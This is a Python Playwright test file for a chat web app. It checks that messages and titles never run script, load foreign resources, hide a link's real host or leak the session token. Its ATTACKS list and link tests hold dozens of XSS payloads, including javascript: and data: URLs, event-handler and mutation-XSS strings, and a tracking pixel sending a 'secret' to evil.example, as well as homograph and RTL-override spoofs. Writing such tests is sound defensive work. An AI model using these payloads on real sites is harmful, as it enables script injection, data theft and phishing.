"""The page: other people's texts never run, never load anything and never look like the page itself."""

from __future__ import annotations

import pytest
from playwright.async_api import BrowserContext, Page, Request, expect

from tests.browser.chat_page import ChatPage, open_tab
from tests.browser.conftest import Console, Served
from tests.support.chat import open_chat

ATTACKS = [
    "<script>hurt()</script>",
    "<img src=x onerror=hurt()>",
    "<svg onload=hurt()><animate onbegin=hurt() attributeName=x dur=1s>",
    "<svg><script>hurt()</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img onerror=hurt()&gt;'>",
    '<math><maction actiontype="statusline#http://a.b" xlink:href="javascript:hurt()">click</maction>',
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<object data='javascript:hurt()'></object><embed src='javascript:hurt()'>",
    "<form action='javascript:hurt()'><button>Sign in</button></form>",
    "<a href='javascript:hurt()'>click</a>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>over</div>",
    "<details open ontoggle=hurt()><summary>x</summary></details>",
    "<video><source onerror=hurt()></video><audio src=x onerror=hurt()>",
    "<input autofocus onfocus=hurt()>",
    "<noscript><p title='</noscript><img src=x onerror=hurt()>'>",
    "<template><script>hurt()</script></template>",
    "<p id=composer name=token data-copy=code class=toast>clobber</p>",
    "[click](javascript:hurt())",
    "[click](JaVaScRiPt:hurt())",
    "[click](  javascript:hurt())",
    "[click](java&#x0A;script:hurt())",
    "[click](&#x6A;avascript:hurt())",
    "[click](vbscript:hurt())",
    "[click](data:text/html,<script>hurt()</script>)",
    "[click](/api/conversations)",
    '[click](https://a.example "x" onmouseover=hurt())',
    '[click](https://a.example/"onmouseover="hurt())',
    "<javascript:hurt()>",
    "[a]: javascript:hurt()\n\n[a]",
    "![x](https://evil.example/pixel.png?secret)",
    "![x](javascript:hurt())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aHVydCgpPg==)",
    '![x" onerror="hurt()](data:image/png;base64,AAAA)',
    "```html\n<script>hurt()</script>\n```",
    '```x"><img/src=x/onerror=hurt()>\ncode\n```',
    "```js\n</code></pre><script>hurt()</script>\n```",
    "| <img src=x onerror=hurt()> |\n|---|\n| <script>hurt()</script> |",
    "`<img src=x onerror=hurt()>`",
    "<!--<img src=x onerror=hurt()>-->",
    "<![CDATA[<img src=x onerror=hurt()>]]>",
    "# <img src=x onerror=hurt()>",
]
ALLOWED_PROTOCOLS = {"http:", "https:", "mailto:"}


class Watch:
    """Records what a page must not do. The console fixture fails at violations of the policy, too."""

    def __init__(self, page: Page, address: str) -> None:
        self._page = page
        self._address = address
        self.foreign: list[str] = []
        page.on("request", self._requested)

    def _requested(self, request: Request) -> None:
        if not request.url.startswith((self._address, "data:")):
            self.foreign.append(request.url)

    async def nothing_happened(self) -> None:
        """Check that nothing ran, no foreign URL was requested, and nothing that runs can be clicked."""
        assert await self._page.evaluate("window.hurt.calls") == 0
        assert self.foreign == []
        found = await self._page.evaluate("""() => {
            const place = document.querySelectorAll(".prose, .bubble, .row-title, #title");
            const all = [...place].flatMap((each) => [...each.querySelectorAll("*")]);
            return {
                tags: [...new Set(all.map((each) => each.localName))],
                handlers: all.flatMap((each) => each.getAttributeNames())
                    .filter((name) => /^on|^style$|^name$/.test(name)),
                protocols: all.filter((each) => each.href).map((each) => new URL(each.href).protocol),
                hosts: all.filter((each) => each.href).map((each) => new URL(each.href).host),
                ids: all.filter((each) => each.id).map((each) => each.id),
            };
        }""")
        strange = (
            "script style iframe object embed form input base link svg math video audio details template"
        )
        icons = {"svg", "path"}  # of the page's own copy buttons
        assert not set(found["tags"]) & set(strange.split()) - icons
        assert found["handlers"] == found["ids"] == []
        assert set(found["protocols"]) <= ALLOWED_PROTOCOLS
        assert self._address.partition("//")[2] not in found["hosts"]


@pytest.fixture
async def watch(chat: ChatPage, service: Served) -> Watch:
    await chat.page.add_init_script("window.hurt = () => window.hurt.calls++; window.hurt.calls = 0;")
    await chat.page.reload()
    return Watch(chat.page, service.address)


async def test_attacks_in_answers(chat: ChatPage, watch: Watch) -> None:
    for attack in ATTACKS:
        await chat.exchange("?", *(attack[place : place + 5] for place in range(0, len(attack), 5)))
    await watch.nothing_happened()
    await chat.page.reload()
    await expect(chat.said).to_have_count(len(ATTACKS))
    await expect(chat.said.last).to_contain_text("<img src=x onerror=hurt()>")
    await watch.nothing_happened()


async def test_attacks_in_questions_and_the_titles_that_come_of_them(chat: ChatPage, watch: Watch) -> None:
    chat.model.say = ["ok"]
    for attack in ATTACKS:
        await chat.button("New chat").click()
        await chat.send(attack)
        await expect(chat.asked.last).to_have_text(attack, use_inner_text=True)
        await chat.idle()
    await watch.nothing_happened()
    await chat.page.reload()
    await expect(chat.rows).to_have_count(len(ATTACKS))
    await watch.nothing_happened()


async def test_attacks_in_titles(context: BrowserContext, service: Served) -> None:
    token = service.token()
    for attack in [*ATTACKS, "\u202egnp.exe", "a" * 500]:
        await open_chat(service.client, {"Authorization": f"Bearer {token}"}, title=attack[:500])
    chat = await open_tab(context, service.address, token, service.model)
    watch = Watch(chat.page, service.address)
    await chat.page.add_init_script("window.hurt = () => window.hurt.calls++; window.hurt.calls = 0;")
    await chat.page.reload()
    await expect(chat.rows).to_have_count(len(ATTACKS) + 2)
    await chat.rows.first.click()
    await chat.rows.first.hover()
    await watch.nothing_happened()


async def test_html_in_an_answer_is_shown_as_it_was_written(chat: ChatPage) -> None:
    await chat.exchange("?", "Use a <div> or H<sub>2</sub>O:\n\n<section onclick='x()'>\n  hi\n</section>")
    await expect(chat.said).to_contain_text("Use a <div> or H2O:")
    await expect(chat.said.locator("sub")).to_have_text("2")
    await expect(chat.said).to_contain_text("<section onclick='x()'>")


async def test_a_link_opens_elsewhere_and_tells_nothing(chat: ChatPage) -> None:
    await chat.exchange("?", "[it](https://a.example/x) and https://b.example")
    links = chat.said.get_by_role("link")
    await expect(links).to_have_count(2)
    for link in await links.all():
        assert await link.get_attribute("target") == "_blank"
        assert set((await link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}


async def test_a_link_that_names_another_host_shows_where_it_leads(chat: ChatPage) -> None:
    await chat.exchange(
        "?", "[https://bank.example/login](https://evil.example/) [www.a.example](https://a.example)"
    )
    await expect(chat.said).to_have_text("https://bank.example/login (evil.example) www.a.example")
    for link in await chat.said.get_by_role("link").all():
        assert await link.get_attribute("title") == await link.get_attribute("href")


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ("[https://bank.example](https://evil.example)", "evil.example"),
        ("[Go to https://bank.example now](https://evil.example)", "evil.example"),
        ("https://bank.example@evil.example/", "evil.example"),
        ("[sign in](https://bank.example:443@evil.example/)", "evil.example"),
        ("[https://user@bank.example](https://evil.example)", "evil.example"),
        ("[b\u0430nk.example](https://b\u0430nk.example)", "xn--bnk-6cd.example"),
        ("[bank](https://b\u0430nk.example)", "xn--bnk-6cd.example"),
        ("[\u200bbank.example](https://evil.example)", "evil.example"),
        ("[\uff42ank.example](https://evil.example)", "evil.example"),
        ("[https://bank.example](mailto:me@evil.example)", "evil.example"),
    ],
)
async def test_a_link_in_disguise_shows_where_it_leads(chat: ChatPage, link: str, host: str) -> None:
    await chat.exchange("?", link)
    await expect(chat.said.locator(".link-host")).to_have_text(f"({host})")


async def test_plain_links_show_no_host(chat: ChatPage) -> None:
    text = (
        "https://a.example/x?y [www.a.example](https://a.example:8080) [read](https://a.example) me@a.example"
    )
    await chat.exchange("?", text)
    await expect(chat.said.get_by_role("link")).to_have_count(4)
    await expect(chat.said.locator(".link-host")).to_have_count(0)


async def test_a_title_cant_turn_the_text_around_it(context: BrowserContext, service: Served) -> None:
    token = service.token()
    title = "\u2069\u202egnp.exe"
    await open_chat(service.client, {"Authorization": f"Bearer {token}"}, title=title)
    chat = await open_tab(context, service.address, token, service.model)
    await chat.rows.get_by_role("link").click()
    await expect(chat.page).to_have_title("gnp.exe · samosaChaat")
    await chat.rows.hover()
    await chat.rows.get_by_role("button").click()
    await chat.page.get_by_role("menuitem", name="Delete").click()
    notice = chat.page.locator(".toast")
    await expect(notice.locator("bdi")).to_have_text(title)
    await expect(notice).to_contain_text("” was deleted.")


async def test_a_foreign_picture_becomes_a_link(chat: ChatPage, watch: Watch) -> None:
    await chat.exchange("?", "![a cat](https://evil.example/cat.png?secret=1)")
    await expect(chat.said.get_by_role("link", name="a cat")).to_be_visible()
    await expect(chat.said.get_by_role("img")).to_have_count(0)
    assert watch.foreign == []


async def test_the_token_is_in_no_address_cookie_or_lasting_storage(
    chat: ChatPage, context: BrowserContext
) -> None:
    addresses: list[str] = []
    chat.page.on("request", lambda request: addresses.append(request.url))
    await chat.exchange("Hi", "Hello.")
    await chat.page.reload()
    await expect(chat.said).to_have_text("Hello.")
    token = await chat.page.evaluate("sessionStorage.getItem('chat.token')")
    assert token
    assert not [address for address in addresses if token in address]
    assert await context.cookies() == []
    assert token not in await chat.page.evaluate("JSON.stringify(localStorage)")


async def test_no_script_of_the_page_can_make_html_without_the_sanitiser(
    chat: ChatPage, console: Console
) -> None:
    console.allow("requires 'TrustedHTML'|Creating a TrustedTypePolicy|trusted-types")
    refused = await chat.page.evaluate("""() => {
        const attempts = [
            () => (document.createElement("div").innerHTML = "<b>x</b>"),
            () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
            () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
        ];
        return attempts.filter((attempt) => {
            try { attempt(); return false; } catch { return true; }
        }).length;
    }""")
    assert refused == 3
